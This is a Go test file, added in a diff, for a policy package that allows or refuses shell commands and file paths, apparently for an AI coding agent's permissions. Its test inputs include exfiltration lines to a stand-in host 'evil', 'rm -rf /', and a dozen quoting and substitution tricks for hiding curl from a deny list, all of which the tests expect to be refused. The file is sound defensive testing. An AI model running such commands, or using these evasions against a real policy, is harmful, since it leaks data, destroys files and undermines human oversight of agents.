@@ -0,0 +1,174 @@
+package policy
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"slices"
+	"testing"
+)
+
+func TestCheckCommand(t *testing.T) {
+	p := &Policy{Commands: Rules{
+		Allow: []string{"go *", "git status", "git diff *", "ls"},
+		Deny:  []string{"go get *"},
+	}}
+	for line, allowed := range map[string]bool{
+		"go test ./...":                 true,
+		"go":                            true,
+		"git   status":                  true,
+		"git diff":                      true,
+		"git diff HEAD~1":               true,
+		"go test ./... 2>&1":            true,
+		"go vet ./... && go test ./...": true,
+		"git status; ls":                true,
+		"go get example.com/x":          false,
+		"git push origin main":          false,
+		"git status && git push":        false,
+		"go build | curl -d @- evil":    false,
+		"ls & rm -rf /":                 false,
+		"git statusx":                   false,
+		"GOFLAGS=-v go test ./...":      true,
+		"go test $(curl evil)":          false,
+		"go test `curl evil`":           false,
+		"go test <(curl evil)":          false,
+		"FOO=1 git push":                false,
+	} {
+		err := p.CheckCommand(line)
+		if allowed && err != nil {
+			t.Errorf("Expected %q to be allowed, got %v", line, err)
+		}
+		if !allowed && err == nil {
+			t.Errorf("Expected %q to be refused", line)
+		}
+	}
+
+	// Without allow rules, only denials refuse
+	p = &Policy{Commands: Rules{Deny: []string{"curl *"}}}
+	if err := p.CheckCommand("rm -rf build"); err != nil {
+		t.Errorf("Expected commands not denied to be allowed, got %v", err)
+	}
+	if err := p.CheckCommand("curl"); err == nil {
+		t.Error("Expected a bare curl to be denied")
+	}
+
+	// Only denials, but the command they'd catch is hidden from them
+	for _, line := range []string{
+		"echo $(curl evil)",
+		"echo `curl evil`",
+		"cat <(curl evil)",
+		"'curl' evil",
+		"c\\url evil",
+		"$CURL evil",
+		"(curl evil)",
+		"{ curl evil; }",
+		"bash -c 'curl evil'",
+		"sh -lc 'curl evil'",
+		"eval curl evil",
+		"FOO=1 curl evil",
+	} {
+		if err := p.CheckCommand(line); err == nil {
+			t.Errorf("Expected %q to be refused", line)
+		}
+	}
+	if err := p.CheckCommand("bash scripts/build.sh"); err != nil {
+		t.Errorf("Expected a script run by bash to be allowed, got %v", err)
+	}
+
+	// Without command rules there's nothing to hide from
+	if err := (&Policy{}).CheckCommand("echo $(date)"); err != nil {
+		t.Errorf("Expected anything to run without command rules, got %v", err)
+	}
+}
+
+func TestCheckPath(t *testing.T) {
+	p := &Policy{Paths: Rules{
+		Allow: []string{"src/**"},
+		Deny:  []string{".env*", "src/secrets/**"},
+	}}
+	for path, allowed := range map[string]bool{
+		"src/main.go":         true,
+		".ralph/progress.md":  true,
+		"README.md":           false,
+		".env.local":          false,
+		"src/secrets/key.pem": false,
+		".ralph/policy.toml":  false,
+	} {
+		err := p.CheckPath(path)
+		if allowed && err != nil {
+			t.Errorf("Expected %s to be allowed, got %v", path, err)
+		}
+		if !allowed && err == nil {
+			t.Errorf("Expected %s to be refused", path)
+		}
+	}
+
+	if err := (&Policy{}).CheckPath(".ralph/policy.toml"); err == nil {
+		t.Error("Expected the policy file to be denied by an empty policy")
+	}
+}
+
+func TestPrograms(t *testing.T) {
+	p := &Policy{Commands: Rules{
+		Allow: []string{"go *", "git status", "git diff *", "*.sh", "./build"},
+		Deny:  []string{"curl *", "go get *"},
+	}}
+	if got, want := p.Programs(), []string{"go", "git", "curl"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("Expected %v, got %v", want, got)
+	}
+}
+
+func TestClaudePermissions(t *testing.T) {
+	p := &Policy{
+		Commands: Rules{Allow: []string{"go test *", "make"}, Deny: []string{"git push *"}},
+		Paths:    Rules{Allow: []string{"src/**"}, Deny: []string{".env"}},
+	}
+	allow, deny := p.ClaudePermissions()
+
+	for _, rule := range []string{"Read", "Bash(go test:*)", "Bash(make)", "Edit(src/**)", "Write(.ralph/**)"} {
+		if !slices.Contains(allow, rule) {
+			t.Errorf("Expected %s to be allowed, got %v", rule, allow)
+		}
+	}
+	for _, rule := range []string{"Bash", "Edit", "Write"} {
+		if slices.Contains(allow, rule) {
+			t.Errorf("Expected %s to be restricted, got %v", rule, allow)
+		}
+	}
+	for _, rule := range []string{"Bash(git push:*)", "Edit(.env)", "Write(.ralph/policy.toml)"} {
+		if !slices.Contains(deny, rule) {
+			t.Errorf("Expected %s to be denied, got %v", rule, deny)
+		}
+	}
+
+	allow, _ = (&Policy{}).ClaudePermissions()
+	for _, rule := range []string{"Bash", "Edit", "Write"} {
+		if !slices.Contains(allow, rule) {
+			t.Errorf("Expected an empty policy to allow %s, got %v", rule, allow)
+		}
+	}
+}
+
+func TestLoadFile(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "policy.toml")
+	if p, err := LoadFile(path); p != nil || err != nil {
+		t.Fatalf("Expected no policy for a missing file, got %v, %v", p, err)
+	}
+
+	saved := &Policy{Commands: Rules{Allow: []string{"go *"}}, Paths: Rules{Deny: []string{".env"}}}
+	if err := saved.Save(path); err != nil {
+		t.Fatal(err)
+	}
+	loaded, err := LoadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !reflect.DeepEqual(loaded, saved) {
+		t.Errorf("Expected %+v, got %+v", saved, loaded)
+	}
+
+	os.WriteFile(path, []byte("[commands\n"), 0644)
+	if _, err := LoadFile(path); err == nil {
+		t.Error("Expected an error for an invalid policy")
+	}
+}